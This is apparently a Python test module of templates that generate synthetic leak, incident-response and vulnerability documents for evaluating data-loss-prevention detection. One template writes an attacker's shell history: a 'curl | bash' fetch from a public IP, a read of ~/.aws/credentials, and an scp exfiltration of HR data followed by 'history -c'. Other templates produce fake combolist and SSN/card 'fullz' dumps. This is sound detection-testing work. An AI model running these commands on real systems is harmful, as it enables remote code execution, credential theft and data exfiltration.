"""The `leak`, `ir` and `vuln` kinds of the eighteenth corpus (see tpl.py)."""

from __future__ import annotations

from tests.dlp_blind9.build import Doc
from tests.dlp_eval.corpus import N, V

from . import snippets as sn
from .tpl import hhmm, person_mail, template, ts
from .values import Values

# --- leak ------------------------------------------------------------------------------------------------


@template("leak_secret_scanning")
def leak_secret_scanning(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("GitHub secret scanning opened these alerts on a public repo. Which ones do I rotate first, and who do I contact?\n\n```json\n[\n")
    n = r.randrange(2, 4)
    for i in range(n):
        kind = vals.kind(tuple(k for k in sn.SNIPPETS if not k.startswith("password") and k != "private_key"))
        name, mail, _ = person_mail(vals)
        d.w("  {\n    \"number\": ", str(r.randrange(3, 240)), ",\n    \"state\": \"open\",\n    \"secret_type_display_name\": \"",
            sn.DISPLAY[kind], "\",\n    \"secret\": \"", vals.cred(kind), "\",\n    \"repository\": \"", r.choice(sn.REPOS), "\",\n")
        d.w("    \"commit_sha\": \"", vals.sha1(), "\",\n    \"path\": \"", r.choice(("config/settings.py", ".env.production", "scripts/deploy.sh",
                                                                           "src/notify.ts", "terraform/main.tf")), "\",\n")
        d.w("    \"committer\": {\"name\": \"", name, "\", \"email\": \"", mail, "\"},\n    \"created_at\": \"", ts(vals), "\"\n  }",
            ",\n" if i < n - 1 else "\n")
    d.w("]\n```\n")


@template("leak_paste_dump")
def leak_paste_dump(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w(r.choice(("Threat intel found this on a paste site, it mentions our domain. How bad is it?\n\n",
                  "Dump from a Telegram combolist channel, filtered to our tenant. Check which still work? (no, just advise)\n\n")))
    d.w("----- BEGIN PASTE (", ts(vals), ") -----\n")
    for _ in range(r.randrange(2, 4)):
        vals.used["password_kv"] += 1
        d.w(vals.email(free=r.random() < 0.4), ":", vals.cred("password_kv"), "\n")
    if r.random() < 0.6:
        d.w("# fullz\n")
        for _ in range(r.randrange(1, 4)):
            d.w(vals.name(r.choice(("full", "upper_last"))), "|", vals.ssn(), "|", vals.card(), "|", r.choice(("0", "1"))
                + f"{r.randrange(1, 10)}/2{r.randrange(6, 9)}", "|", vals.phone("US"), "\n")
    d.w("# phone list\n", vals.phone(), " | ", vals.phone(), "\n----- END PASTE -----\nPaste id ", N(vals.digits(9), "paste_id", "PHONE_NUMBER"), "\n")


@template("leak_env_public_repo")
def leak_env_public_repo(d: Doc, vals: Values) -> None:
    r = vals.rng
    name, mail, _ = person_mail(vals)
    d.w("A contractor pushed this .env to a public repo (", r.choice(sn.REPOS), ", commit ", vals.sha1(), "). Author: ", name, " <", mail,
        ">. What do we need to rotate?\n\n```\n# .env.production\nNODE_ENV=production\nPORT=", vals.port(), "\n")
    for _ in range(r.randrange(2, 5)):
        d.w(*sn.line(vals, ("env",)))
    d.w("LOG_LEVEL=info\nSENTRY_DSN=", vals.placeholder(), "\n```\n")


@template("leak_ci_log")
def leak_ci_log(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("Our CI log for run ", N(vals.digits(10), "run_id", "PHONE_NUMBER"), " printed secrets because someone used `set -x`. Which values are exposed?\n\n```\n")
    for _ in range(r.randrange(2, 4)):
        d.w(ts(vals), " ", *sn.line(vals, ("log", "shell")))
    d.w(ts(vals), " + echo ***\n", ts(vals), " ##[warning]Secret ", vals.placeholder(), " was masked\n", ts(vals),
        " Runner version ", vals.version(), "\n```\n")


@template("answer_leak_rotation")
def answer_leak_rotation(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("Here is the rotation checklist for the exposed secrets, in priority order:\n\n| # | Secret | Where it was | Action |\n|---|---|---|---|\n")
    for i in range(r.randrange(2, 5)):
        kind = vals.kind(tuple(k for k in sn.SNIPPETS if k != "private_key"))
        d.w("| ", str(i + 1), " | ", sn.DISPLAY[kind], " `", vals.cred(kind), "` | ", r.choice(sn.REPOS), " | ",
            r.choice(("revoke and reissue", "rotate, then check audit logs", "delete the key, update the pipeline")), " |\n")
    d.w("| ", str(i + 2), " | already rotated `", vals.masked(), "` | ", vals.ticket(), " | none |\n\n")
    owner, mail, _ = person_mail(vals)
    d.w("Owner to notify: ", owner, " (", mail, "). After rotation, purge the history with git filter-repo.\n")


@template("leak_neg_rotated_ticket")
def leak_neg_rotated_ticket(d: Doc, vals: Values) -> None:
    d.w("Can you close out this ticket text? ", vals.ticket(), "\n\nStatus: rotated\nOld key: ", vals.masked(), " (revoked ", ts(vals),
        ")\nNew key stored in Key Vault as ", vals.placeholder(), "\nDocs example in README was ", vals.aws_example(),
        " (AWS's documented example, not a real key)\nCommit: ", vals.sha1(), "\nScanner rule id ", vals.guid(), "\n")


@template("answer_leak_neg_gitleaks")
def answer_leak_neg_gitleaks(d: Doc, vals: Values) -> None:
    d.w("To stop this recurring, add gitleaks as a pre-commit hook:\n\n```toml\n[allowlist]\ndescription = \"docs examples\"\n"
        "regexes = ['''", vals.aws_example(), "''', '''", vals.placeholder(), "''']\ncommits = [\"", vals.sha1(), "\"]\n```\n\n")
    d.w("Then run `gitleaks detect --redact -v` in CI; findings print as ", vals.placeholder(), ". Fingerprints look like ",
        vals.sha1(), ":config/app.yaml:generic-api-key:12.\n")


# --- ir --------------------------------------------------------------------------------------------------


@template("ir_timeline")
def ir_timeline(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("Help me turn this into a clean incident timeline for ", vals.ticket(), " (times UTC):\n\n")
    ic = vals.name()
    att = vals.ipv4(private=False)
    d.w(hhmm(vals), " first alert: password spray from ", att, " against VPN\n")
    d.w(hhmm(vals), " ", vals.email(), " successful login from ", V(att.text, att.family, att.kind), "\n")
    d.w(hhmm(vals), " attacker RDP to ", vals.ipv4(private=True), " (", r.choice(("FS01", "APP-07", "SQL-02")), "), PID ", vals.pid(), "\n")
    d.w(hhmm(vals), " ", ic, " declared sev1, bridge open, on-call ", vals.name(), " reached on ", vals.phone(), "\n")
    d.w(hhmm(vals), " exfil to ", vals.ipv6(), " ~", str(r.randrange(2, 40)), " GB via rclone\n")
    d.w(hhmm(vals), " host isolated, MAC ", vals.mac(), ", hashes collected (", vals.md5(), ")\n")


@template("ir_shell_history")
def ir_shell_history(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("This is root's .bash_history from the compromised VM. Explain what the attacker did and what secrets they got.\n\n```\n")
    d.w("id; uname -a\ncurl -s http://", vals.ipv4(private=False), ":", vals.port(), "/x.sh | bash\n")
    d.w("cat ~/.aws/credentials\n")
    for _ in range(r.randrange(1, 3)):
        d.w(*sn.line(vals, ("shell",)))
    if r.random() < 0.6:
        d.w("head -4 /srv/hr/exports/benefits_2025.csv\nemployee,ssn,email\n")
        for _ in range(3):
            d.w(vals.name(), ",", vals.ssn(), ",", vals.email(), "\n")
        d.w("tar czf /tmp/.d.tgz /srv/hr/exports\n")
    d.w("scp /tmp/.d.tgz root@", vals.ipv4(private=False), ":/var/tmp/\nhistory -c\n```\n")


@template("ir_postmortem")
def ir_postmortem(d: Doc, vals: Values) -> None:
    r = vals.rng
    lang = r.choice(("de", "nl", "pt", "en"))
    a, b = vals.name(), vals.name()
    acct = vals.email()
    if lang == "de":
        d.w("Bitte das Postmortem sprachlich glätten:\n\nVorfall ", vals.ticket(), ": Ransomware-Vorstufe auf ", vals.ipv4(private=True),
            ".\nIncident Commander: ", a, " (Rufbereitschaft ", vals.phone("DE"), ")\nBetroffenes Konto: ", acct,
            "\nAngreifer-IP: ", vals.ipv4(private=False), "\nKommunikation: ", b, "\n")
    elif lang == "nl":
        d.w("Kun je dit postmortem verbeteren?\n\nIncident ", vals.ticket(), ": datalek via gecompromitteerd account ", acct,
            ".\nIncidentleider: ", a, " (piket ", vals.phone("NL"), ")\nAanvaller: ", vals.ipv4(private=False),
            "\nGetroffen server: ", vals.ipv4(private=True), "\nCommunicatie: ", b, "\n")
    elif lang == "pt":
        d.w("Revisa este post-mortem, por favor:\n\nIncidente ", vals.ticket(), ": conta ", acct, " comprometida.\nResponsável: ", a,
            " (plantão ", vals.phone(r.choice(("PT", "BR"))), ")\nIP do atacante: ", vals.ipv4(private=False), "\nServidor: ",
            vals.ipv4(private=True), "\nComunicação: ", b, "\n")
    else:
        d.w("Tidy up this post-mortem draft:\n\nIncident ", vals.ticket(), ": compromised account ", acct, ".\nIC: ", a, " (on-call ",
            vals.phone(), ")\nAttacker IP: ", vals.ipv4(private=False), "\nAffected host: ", vals.ipv4(private=True), "\nComms: ", b, "\n")
    d.w("Root cause: no MFA on the legacy VPN portal (version ", vals.version(), ", ", vals.cve(), ").\n")


@template("ir_cloud_keys")
def ir_cloud_keys(d: Doc, vals: Values) -> None:
    r = vals.rng
    host = vals.ipv4(private=True)
    d.w("Found these on the compromised VM (", host, "). Which cloud keys are real and what can they reach?\n\n")
    d.w("$ cat ~/.aws/credentials\n[default]\naws_access_key_id = ", vals.cred(vals.kind(("aws_access_key_id",))),
        "\naws_secret_access_key = ", vals.cred(vals.kind(("aws_secret_key",))), "\n\n$ env | grep -i -E 'key|token|secret|pass'\n")
    for _ in range(r.randrange(1, 3)):
        d.w(*sn.line(vals, ("env",)))
    d.w("\n$ ls -la ~/.ssh\n-rw------- 1 ubuntu ubuntu 2602 ", r.choice(("Mar", "Jun", "Sep")), " 3 id_rsa\n")


@template("answer_ir_exec_summary")
def answer_ir_exec_summary(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("**Executive summary**\n\nOn ", ts(vals)[:10], " an attacker used a phished session for ", vals.email(), " to reach ",
        vals.ipv4(private=True), " and staged data for exfiltration to ", vals.ipv4(private=False), ". ")
    d.w(vals.name(), " led the response; containment was complete ", str(r.randrange(2, 9)), " hours later.\n\n")
    d.w("Affected accounts:\n")
    for _ in range(r.randrange(1, 4)):
        d.w("- ", vals.name(), " (", vals.email(), ")\n")
    if r.random() < 0.5:
        d.w("\nThe key found on the VM (`", *sn.line(vals, ("prose",))[1:2], "`) has been revoked.\n")
    else:
        d.w("\nNo credentials were found on disk.\n")


@template("ir_neg_runbook")
def ir_neg_runbook(d: Doc, vals: Values) -> None:
    d.w("Review our IR runbook step for clarity:\n\n3. Isolate the host in EDR. Example: host with IP ", vals.doc_ip(), ", MAC ", vals.mac(),
        ".\n4. Collect memory with winpmem (", vals.version(), ") and record SHA256 ", vals.sha256(), ".\n5. Page the on-call via ",
        vals.fict_phone(), " (demo number) and open a ticket like ", vals.ticket(), ".\n6. Notify ", vals.example_email(),
        " with subject 'IR <case id>'. Never paste credentials; write ", vals.placeholder(), " instead.\n")


@template("answer_ir_neg_lessons")
def answer_ir_neg_lessons(d: Doc, vals: Values) -> None:
    d.w("Lessons learned from ", vals.ticket(), ":\n\n- Patch ", vals.cve(), " and ", vals.cve(), " (appliance version ", vals.version(),
        " and later).\n- Alert on event ", vals.event_id(), " for new services and ", vals.event_id(), " for log clearing.\n"
        "- Keep the detection rule ", vals.guid(), " enabled.\n- Rotate every secret marked ", vals.placeholder(), " in the vault.\n")


# --- vuln ------------------------------------------------------------------------------------------------


BANNERS = ("Apache/2.4.49 (Unix)", "OpenSSH_7.4p1 Debian-10+deb9u7", "Microsoft-IIS/8.5", "nginx/1.14.0", "Apache Tomcat/8.5.23",
           "vsftpd 2.3.4", "Exim 4.89", "Jetty(9.4.11.v20180605)")


@template("vuln_scanner_csv")
def vuln_scanner_csv(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("Nessus export for the DMZ, can you group it by host and tell me what's critical?\n\nPlugin ID,CVE,CVSS v3.0,Risk,Host,Protocol,Port,Name,Plugin Output\n")
    for _ in range(r.randrange(4, 8)):
        d.w(str(r.randrange(10000, 200000)), ",", vals.cve(), ",", f"{r.randrange(4, 10)}.{r.randrange(10)}", ",",
            r.choice(("Critical", "High", "Medium")), ",", vals.ipv4(), ",tcp,", vals.port(), ",",
            r.choice(("SSL Certificate Expiry", "Apache HTTP Server < 2.4.51", "OpenSSH < 8.8", "SMB Signing not required")),
            ",\"Installed version : ", vals.version(), " / banner ", r.choice(BANNERS), "\"\n")
    d.w("\nScan owner ", vals.name(), ", policy ", vals.guid(), "\n")


@template("vuln_pentest_finding")
def vuln_pentest_finding(d: Doc, vals: Values) -> None:
    r = vals.rng
    tester, tmail, _ = person_mail(vals, r.choice(("redteam-partners.de", "pentest-lab.fr", None)))
    ip = vals.ipv4()
    d.w("Rewrite this pentest finding for the management summary:\n\nFINDING PT-", str(r.randrange(1, 40)), " - Default credentials on Tomcat manager (High)\n")
    d.w("Affected: ", ip, ":8080\nEvidence: the manager app accepted http://tomcat:", vals.cred(vals.kind(("password_url",))), "@",
        V(ip.text, ip.family, ip.kind), ":8080/manager/html and allowed WAR upload.\n")
    d.w("Banner: ", r.choice(BANNERS), ", cert serial ", vals.md5(), ", signature ", vals.oid(), "\n")
    d.w("Tester: ", tester, ", ", tmail, ", ", vals.phone(), "\n")


@template("vuln_nmap")
def vuln_nmap(d: Doc, vals: Values) -> None:
    r = vals.rng
    ip = vals.ipv4()
    d.w("What stands out in this nmap output?\n\n```\nNmap scan report for ", r.choice(("web-dmz-03.adatum.com", "fw-edge-1", "printer-4f")), " (", ip, ")\n")
    d.w("Host is up (0.0", str(r.randrange(10, 99)), "s latency).\nPORT     STATE SERVICE  VERSION\n")
    for p in r.sample(("22/tcp", "80/tcp", "443/tcp", "445/tcp", "3389/tcp", "8080/tcp", "161/udp"), r.randrange(3, 6)):
        d.w(f"{p:<9}open  ", r.choice(("ssh", "http", "https", "microsoft-ds", "ms-wbt-server", "snmp")), "  ", r.choice(BANNERS), "\n")
    d.w("| ssl-cert: Subject: commonName=", r.choice(("vpn.contoso.com", "owa.fabrikam.com")), "\n| SHA-1: ", vals.sha1(), "\n| MD5: ", vals.md5(), "\n")
    d.w("| snmp-sysdescr: ", vals.oid(), " sysName router-", str(r.randrange(1, 9)), "\nMAC Address: ", vals.mac(), " (Cisco Systems)\n")
    d.w("Neighbour seen: ", vals.ipv4(private=True), ", ", vals.ipv6(private=True), "\n```\n")


@template("vuln_cred_finding")
def vuln_cred_finding(d: Doc, vals: Values) -> None:
    r = vals.rng
    lang = r.choice(("fr", "es", "en"))
    intro = {"fr": "Peux-tu traduire ce constat de pentest en anglais ?\n\nConstat : identifiants en clair dans un fichier de configuration sur ",
             "es": "¿Puedes resumir este hallazgo del pentest?\n\nHallazgo: credenciales en texto claro en la configuración de ",
             "en": "Summarise this pentest finding:\n\nFinding: cleartext credentials in a configuration file on "}[lang]
    d.w(intro, vals.ipv4(private=True), "\n\n```\n", *sn.line(vals, ("file",)), "```\n")
    d.w({"fr": "Empreintes cassées avec hashcat :\n", "es": "Hashes crackeados con hashcat:\n", "en": "Hashes cracked with hashcat:\n"}[lang])
    for _ in range(r.randrange(1, 3)):
        d.w(vals.md5(), ":", vals.cred(vals.kind(("password_kv",))), "\n")
    d.w("NTLM ", vals.md5(), " (", r.choice(("non cassé", "sin romper", "not cracked")), ")\n")


@template("answer_vuln_remediation")
def answer_vuln_remediation(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("Remediation plan, grouped by owner:\n\n")
    for _ in range(r.randrange(2, 4)):
        name, mail, _ = person_mail(vals)
        d.w("**", name, "** (", mail, ")\n")
        for _ in range(r.randrange(1, 3)):
            d.w("- ", vals.ipv4(), ": ", vals.cve(), " - upgrade to ", vals.version(), ", port ", vals.port(), "\n")
        d.w("\n")
    d.w("Re-scan after the change window; ticket ", vals.ticket(), ".\n")


@template("vuln_neg_cve_digest")
def vuln_neg_cve_digest(d: Doc, vals: Values) -> None:
    r = vals.rng
    d.w("Summarise this weekly CVE digest for the CAB:\n\n")
    for _ in range(r.randrange(3, 6)):
        d.w("- ", vals.cve(), " (CVSS ", f"{r.randrange(5, 10)}.{r.randrange(10)}", ") fixed in ", vals.version(), "; IOC hash ",
            r.choice((vals.sha256, vals.sha1, vals.md5))(), "; port ", vals.port(), "\n")
    d.w("Lab reproduction used ", vals.doc_ip(), " and ", vals.doc_ip(), ". Certificate policy ", vals.oid(), ".\n")


@template("answer_vuln_neg_cvss")
def answer_vuln_neg_cvss(d: Doc, vals: Values) -> None:
    d.w("The score comes from the vector CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H = 9.8. For ", vals.cve(), " the vulnerable range ends at ",
        vals.version(), "; the fixed build is ", vals.version(), ". The OID ", vals.oid(), " in the advisory is the certificate's key "
        "usage, not an address, and ", vals.sha256(), " is the patched DLL's hash.\n")
